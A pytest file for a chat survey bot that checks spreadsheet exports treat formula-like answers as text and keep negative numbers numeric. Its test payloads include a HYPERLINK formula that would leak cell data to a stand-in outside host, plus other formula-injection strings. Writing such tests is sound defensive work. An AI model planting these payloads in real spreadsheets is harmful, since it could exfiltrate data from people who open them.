"""Spreadsheets never run what people typed (issue 12, bot/spreadsheet.py): a text answer
that looks like a formula is exported as text — XLSX cell type "s", CSV with a leading `'`
— while numbers, negative ones too, stay numbers. Through the real survey export (answers
given in chat), the report workbook and the action-plan sheet."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.engine import Engine
from bot.spreadsheet import csv_cell, risky
from bot.storage import admins, clusters
from bot.storage import surveys as store
from bot.storage.db import Database
from bot.surveys.export import export_csv
from bot.surveys.loader import load_form
from tests.driver import ChatDriver
from tests.handlers.people.test_onboarding import register

PAYLOADS = [
    '=HYPERLINK("http://x?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]

FORM = """\
key: notes
title: {en: Notes}
version: "1"
default_language: en
questions:
  - {name: remark, type: text, required: true, label: {en: "Any remark?"}}
  - {name: balance, type: integer, required: true, label: {en: "Balance?"}}
"""


def test_risky_values_and_numbers() -> None:
    assert all(risky(p) for p in PAYLOADS)
    assert not risky("Sunita") and not risky(-5) and not risky(2.5) and not risky("")
    assert csv_cell("-5") == "-5" and csv_cell("+3.5") == "+3.5" and csv_cell(-7) == -7
    assert csv_cell("-2+3") == "'-2+3" and csv_cell("=1") == "'=1"


@pytest.fixture
async def answered(
    engine: Engine, db: Database, one_cluster: clusters.Cluster, tmp_path: Path
) -> ChatDriver:
    """One respondent per payload answers the text question with it and a negative number."""
    (tmp_path / "notes.yaml").write_text(FORM, encoding="utf-8")
    form = load_form(tmp_path / "notes.yaml").form
    await db.write(lambda conn: store.import_form(conn, form, now="x"))
    for n, payload in enumerate(PAYLOADS):
        person = ChatDriver(engine, user_id=f"p{n}", profile_name=f"P{n}")
        await register(person)
        await person.say("/survey notes")
        await person.say(payload)
        await person.say(f"-{n + 1}")
        assert "Thank you!" in person.text, person.text
    await db.write(lambda conn: admins.add(conn, "test", "cda", one_cluster.id, "cda", "x"))
    return ChatDriver(engine, user_id="cda")


async def test_xlsx_export_keeps_formulas_as_text_and_numbers_as_numbers(
    answered: ChatDriver,
) -> None:
    cda = answered
    await cda.say("/export notes")
    document = cda.last[-1].media
    assert document is not None and document.kind == "document"
    sheet = load_workbook(io.BytesIO(document.data))["survey"]
    header = [c.value for c in sheet[1]]
    remarks = [row[header.index("remark")] for row in sheet.iter_rows(min_row=2)]
    balances = [row[header.index("balance")] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in remarks] == ["s"] * len(PAYLOADS)
    assert [c.value for c in remarks] == [p.strip() for p in PAYLOADS]  # chat input is trimmed
    assert [(c.value, c.data_type) for c in balances] == [
        (-(n + 1), "n") for n in range(len(PAYLOADS))
    ]


async def test_csv_export_prefixes_formulas_and_keeps_negative_numbers(
    answered: ChatDriver, db: Database, tmp_path: Path
) -> None:
    out = tmp_path / "notes.csv"
    await db.read(lambda conn: export_csv(conn, "notes", out))
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["remark"] for r in rows] == ["'" + p.strip() for p in PAYLOADS]
    assert [r["balance"] for r in rows] == [f"-{n + 1}" for n in range(len(PAYLOADS))]
    assert "\n=HYPERLINK" not in out.read_text(encoding="utf-8-sig")


async def test_untrimmed_tab_and_carriage_return_stay_text(
    answered: ChatDriver, db: Database, tmp_path: Path
) -> None:
    """Answers stored without trimming (a leading tab or CR) are text too."""
    from bot.surveys.export import export_xlsx

    def untrim(conn: sqlite3.Connection) -> None:
        query = "SELECT response_id FROM answers WHERE path = 'remark' ORDER BY response_id"
        ids = [r[0] for r in conn.execute(query)]
        for rid, value in zip(ids[-2:], ("\t=1", "\r=1"), strict=True):
            conn.execute("UPDATE answers SET value = ? WHERE response_id = ? AND path = 'remark'",
                         (value, rid))  # fmt: skip

    await db.write(untrim)
    stored = await db.read(lambda conn: [r[0] for r in conn.execute(
        "SELECT value FROM answers WHERE path = 'remark' ORDER BY response_id")])  # fmt: skip
    assert stored[-2:] == ["\t=1", "\r=1"]
    await db.read(lambda conn: export_xlsx(conn, "notes", tmp_path / "n.xlsx"))
    await db.read(lambda conn: export_csv(conn, "notes", tmp_path / "n.csv"))
    sheet = load_workbook(tmp_path / "n.xlsx")["survey"]
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("remark")] for row in sheet.iter_rows(min_row=2)][-2:]
    # XML reads a carriage return back as a line feed; the cell is text all the same.
    assert [(c.value, c.data_type) for c in cells] == [("\t=1", "s"), ("\n=1", "s")]
    with (tmp_path / "n.csv").open(encoding="utf-8-sig", newline="") as f:
        assert [r["remark"] for r in csv.DictReader(f)][-2:] == ["'\t=1", "'\r=1"]


def test_report_workbook_keeps_a_formula_title_as_text(tmp_path: Path) -> None:
    from bot.i18n import translator
    from bot.reports import indicators as ind
    from bot.reports.workbook import report_workbook
    from bot.storage.db import connect_sync, migrate
    from tests.reports.fixture import BAGRU, populate
    from tests.reports.test_indicators import QUARTER

    conn = connect_sync(tmp_path / "r.db")
    migrate(conn)
    populate(conn)
    conn.execute("UPDATE events SET title = ?", (PAYLOADS[0],))
    conn.commit()
    buffer = io.BytesIO()
    report_workbook(translator("en"), ind.build(conn, BAGRU, QUARTER), buffer)
    cells = [
        c for row in load_workbook(buffer)["Participation"].iter_rows() for c in row
        if c.value == PAYLOADS[0]
    ]  # fmt: skip
    assert cells and all(c.data_type == "s" for c in cells)


def test_action_plan_sheet_keeps_a_formula_title_as_text(tmp_path: Path) -> None:
    from bot.activity_sheet import read_sheet, write_sheet
    from bot.storage.activities import Activity

    texts = ("=1+1", "pilot", "@group", "-x")
    plan = [Activity(1, 1, *texts, "2026-01-01", None, 150000, 0, 0, "planned", "cda", "x", "x")]
    write_sheet(plan, tmp_path / "plan.xlsx")
    sheet = load_workbook(tmp_path / "plan.xlsx").active
    assert sheet is not None
    row = next(sheet.iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in row[1:5]] == [
        ("=1+1", "s"), ("pilot", "s"), ("@group", "s"), ("-x", "s"),
    ]  # fmt: skip
    assert (row[7].value, row[7].data_type) == (1500, "n")
    assert read_sheet(tmp_path / "plan.xlsx")[0].fields["title"] == "=1+1"
